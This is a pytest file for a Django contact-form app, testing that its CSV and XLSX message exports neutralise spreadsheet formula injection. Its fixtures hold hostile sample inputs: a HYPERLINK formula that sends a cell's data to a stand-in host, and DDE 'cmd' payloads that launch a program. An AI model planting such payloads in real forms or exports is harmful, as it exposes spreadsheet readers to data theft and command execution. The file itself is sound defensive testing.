"""Both message exports keep a visitor's formula from running in the reader's spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from openpyxl import load_workbook

from pressroom.contact.models import ContactFormField, ContactMessage
from pressroom.security.roles import EDITORS

# What visitors type, through the real form: every one passes its field's validation.
HOSTILE_POSTS = [
    {"name": '=HYPERLINK("http://x/?d="&A2,"Click")', "company": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"name": "+cmd|' /C calc'!A0", "message": "-2+3+cmd|' /C calc'!A0"},
    {"name": '＝HYPERLINK("http://x")', "company": "＠SUM(A1)", "message": "－1＋1"},
    {"name": "王芳", "phone": "+86 138 0000 0000", "message": "-5℃ 冷藏运输可以吗？"},
]
# Stored before the form refused them, or by a future import: tab, CR and LF first.
STORED_ONLY = ["\t=1+1", "\r=1+1", "\n=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ORDINARY = ["王芳", "杭州示例贸易有限公司", "138 0013 8000", "li.ming@example.net"]


@pytest.fixture
def hostile_messages(post_message, contact_page):
    for n, answers in enumerate(HOSTILE_POSTS):
        response = post_message(remote_addr=f"198.51.100.{n + 1}", **answers)
        assert response.status_code == 200, answers
    for n, value in enumerate(STORED_ONLY):
        ContactMessage.objects.create(
            page=contact_page,
            form_data={"name": value, "phone": "", "email": "a@example.net", "message": f"{n}"},
        )
    assert ContactMessage.objects.count() == len(HOSTILE_POSTS) + len(STORED_ONLY)
    return ContactMessage.objects.all()


@pytest.fixture
def reader(client, django_user_model, contact_page):
    """An editor who was given the permission to read messages (not a superuser)."""
    user = django_user_model.objects.create_user("sales", "sales@example.com", "pw")
    user.groups.add(Group.objects.get(name=EDITORS))
    user.user_permissions.add(Permission.objects.get(codename="view_contactmessage"))
    client.force_login(user)
    return client


def export_urls(page):
    return {
        "messages": reverse("contact_message:index"),
        "submissions": reverse("wagtailforms:list_submissions", args=[page.pk]),
    }


def csv_cells(client, url) -> list[list[str]]:
    response = client.get(url + "?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(client, url):
    response = client.get(url + "?export=xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def typed_values() -> list[str]:
    values = [v for answers in HOSTILE_POSTS for v in answers.values()]
    return [v for v in values if v not in ORDINARY] + STORED_ONLY


@pytest.mark.parametrize("export", ["messages", "submissions"])
def test_csv_cells_that_could_start_a_formula_are_neutralised(
    reader, hostile_messages, contact_page, export
):
    rows = csv_cells(reader, export_urls(contact_page)[export])
    cells = [cell for row in rows[1:] for cell in row]
    for value in typed_values():
        assert "'" + value in cells, value
        assert value not in cells, value
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS)
    # The cost, as OWASP accepts it: a phone number written with + shows its apostrophe too.
    assert "'+86 138 0000 0000" in cells
    assert "王芳" in cells and "138 0013 8000" in cells  # ordinary text stays as it was


@pytest.mark.parametrize("export", ["messages", "submissions"])
def test_xlsx_keeps_the_visitors_words_as_text_cells(
    reader, hostile_messages, contact_page, export
):
    sheet = xlsx_sheet(reader, export_urls(contact_page)[export])
    strings = {}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                strings[cell.value] = cell.data_type
    for value in [v for v in typed_values() if v.strip()]:
        # openpyxl reads leading whitespace back; the cell must hold the exact text, as text.
        matches = {text: kind for text, kind in strings.items() if text.strip() == value.strip()}
        assert matches, value
        assert set(matches.values()) == {"s"}, (value, matches)
    assert not any(text.startswith("'") for text in strings)  # no apostrophe needed in XLSX


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_form_field_label_that_looks_like_a_formula_is_neutralised(
    reader, post_message, contact_page, export_format
):
    """Labels are an editor's text, and the editor may not be the one who exports."""
    label = '=HYPERLINK("http://x","订单号")'
    ContactFormField.objects.create(
        page=contact_page,
        sort_order=10,
        label=label,
        clean_name="order",
        field_type="singleline",
        required=False,
    )
    assert post_message(order="A-1").status_code == 200
    url = export_urls(contact_page)["submissions"]
    if export_format == "csv":
        assert "'" + label in csv_cells(reader, url)[0]
    else:
        [heading] = [c for c in next(xlsx_sheet(reader, url).iter_rows()) if "订单号" in c.value]
        assert heading.data_type == "s"  # openpyxl writes a heading starting with = as a formula


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("a=1", "a=1"),
        ("李明", "李明"),
        ("", ""),
        (None, None),
        (-5, -5),  # a number from our own fields is written as a number, never a formula
    ],
)
def test_neutralise_cell(value, expected):
    from pressroom.contact.admin_views import neutralise_cell

    assert neutralise_cell(value) == expected
